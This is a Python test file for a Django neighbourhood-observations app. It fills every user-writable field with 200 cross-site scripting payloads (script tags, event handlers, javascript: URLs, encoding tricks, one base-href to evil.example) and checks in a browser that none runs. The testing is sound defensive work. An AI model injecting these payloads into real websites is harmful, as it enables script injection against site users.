"""200 hostile texts in every field that anybody can write, and every page that shows them: none of them runs."""

from typing import Any

import pytest
from django.utils import timezone
from playwright.sync_api import Browser, Page

from observations.actions import invitations, publishing, sharing
from observations.models import Change, Neighbourhood, Observation, Role, Status, Territory, Theme, User
from observations.restitution import drafting
from tests import factories
from tests.browser.conftest import DESK, browser_type_launch_args, served, sign_in_context
from tests.browser.test_accessibility import PAGES
from tests.restitution.month import month_before

__all__ = ["browser_type_launch_args", "served"]

# What a hostile text would do: leave a mark that the test finds.
RUN = "window.xss=1"
VECTORS = [
    f"<script>{RUN}</script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<a href=javascript:{RUN} autofocus>lien</a>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<style onload={RUN}>*{{}}</style>",
    f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "{{ 7|add:7 }}{% debug %}",
    f"${{{RUN}}}",
    f"[lien](javascript:{RUN})",
    f"\u2028<img src=x onerror={RUN}>\u2029",
    "<img src=x onerror=&#119;indow.xss=1>",
    f"<sc\u0000ript>{RUN}</script>".replace("\u0000", "\u200b"),
    f"<!--><script>{RUN}</script-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    "<base href=//evil.example/><script src=x.js></script>",
    f"<portal src=javascript:{RUN}>",
    f"<xss id=x tabindex=1 onfocus={RUN}></xss>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<dialog open onclose={RUN}><form method=dialog><button autofocus>",
    f"<table background=javascript:{RUN}>",
    f"<input type=image src=x onerror={RUN}>",
]
# Ways out of where a text may stand: nothing, attributes, a text area, a JSON island.
WAYS_OUT = ["", '">', "'>", "</textarea></title></style></script>", '"}</script>']
HOSTILE = [way + vector for way in WAYS_OUT for vector in VECTORS]


# Housing often enough that its comment is published.
THEMES = [*["logement-ascenseurs"] * 3, "mobilites-bus", "lien-entraide"]


@pytest.fixture
def planted(served: str, banc_vert: Neighbourhood, cdsu: User, agent: User, partner: User) -> dict[str, str]:
    """Every field that somebody writes holds a hostile text; the identifiers that addresses name."""
    texts = iter(HOSTILE * 8)

    def hostile(limit: int = 5_000) -> str:
        return next(text for text in texts if len(text) <= limit)

    Territory.objects.update(
        name=hostile(120), banner=hostile(200), controller=hostile(200), dpo=hostile(200)
    )
    User.objects.update(name="")
    for user in (cdsu, agent, partner):
        User.objects.filter(pk=user.pk).update(name=hostile(80))
    Neighbourhood.objects.filter(pk=banc_vert.pk).update(name=hostile(200), source=hostile(200))
    Theme.objects.filter(parent=None).update(name=hostile(60), short_name="<b>x</b>")
    for i in range(100):
        said = factories.ObservationFactory(
            neighbourhood=banc_vert,
            theme=factories.theme(THEMES[i // 3 % len(THEMES)]),
            author=agent,
            words=hostile(),
            seen=hostile(),
            reading=hostile(),
            place_label=hostile(120),
            public_text=hostile(),
            point=(51.0283, 2.3613),
            observed_on=month_before().replace(day=1 + i % 25),
            **decided(i, cdsu, hostile()),
        )
        Change.objects.create(
            observation=said, kind=Change.Kind.ANSWER, by=agent, batch=said.pk, note=hostile()
        )
    draft = publishing.create_draft(month=month_before(), by=cdsu)
    quotes = list(Observation.objects.quotable().values_list("pk", flat=True)[:6])
    draft = publishing.update_draft(
        summary=draft, introduction=hostile(), comments={"logement": hostile(1_500)}, quotes=quotes, by=cdsu
    )
    published = drafting.issue(draft, by=cdsu)
    open_draft = publishing.create_draft(month=month_before(0), by=cdsu)
    _, link = sharing.share(summary=published, label=hostile(80), days=30, by=cdsu)
    sharing.issue_token(label=hostile(80), days=30, by=cdsu)
    invitations.invite(role=Role.AGENT, neighbourhoods=[banc_vert], email="", by=cdsu)
    return {
        "to_read": str(Observation.objects.filter(status=Status.TO_READ).first().pk),
        "accepted": str(Observation.objects.quotable().first().pk),
        "draft": str(open_draft.pk),
        "published": str(published.pk),
        "link": link,
    }


def decided(i: int, by: User, reason: str) -> dict[str, Any]:
    """A third to be read, a third asked about, a third accepted."""
    if i % 3 == 0:
        return {}
    status = Status.TO_COMPLETE if i % 3 == 1 else Status.ACCEPTED
    note = reason if status == Status.TO_COMPLETE else ""
    return {"status": status, "status_by": by, "status_at": timezone.now(), "status_reason": note}


def test_the_texts_are_two_hundred() -> None:
    assert len(set(HOSTILE)) == 200


def test_no_hostile_text_runs_on_any_page(browser: Browser, served: str, planted: dict[str, str]) -> None:
    faults: dict[str, list[str]] = {}
    users = {"": "", "agent": "agent", "cdsu": "cdsu", "partenaire": "partenaire"}
    for who, email in users.items():
        context = browser.new_context(viewport=DESK, locale="fr-FR", service_workers="block")
        if email:
            sign_in_context(context, served, User.objects.get(email=f"{email}@example.test"))
        page = context.new_page()
        said = listen(page)
        for name, (reader, path) in PAGES.items():
            if reader != who:
                continue
            try:
                address = path.format(**planted)
            except KeyError:
                continue
            page.goto(served + address)
            page.wait_for_load_state("networkidle")
            if page.evaluate("'xss' in window"):
                said.append("ran")
            if said:
                faults[name] = list(said)
                said.clear()
        context.close()
    assert faults == {}


def listen(page: Page) -> list[str]:
    """What the page complains about: refusals of the CSP, errors, dialogs. Map tiles come from nowhere."""
    said: list[str] = []
    page.route("https://data.geopf.fr/**", lambda route: route.abort())
    page.on("dialog", lambda dialog: (said.append("dialog"), dialog.dismiss()))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on(
        "console",
        lambda message: said.append(message.text) if "Content Security Policy" in message.text else None,
    )
    return said
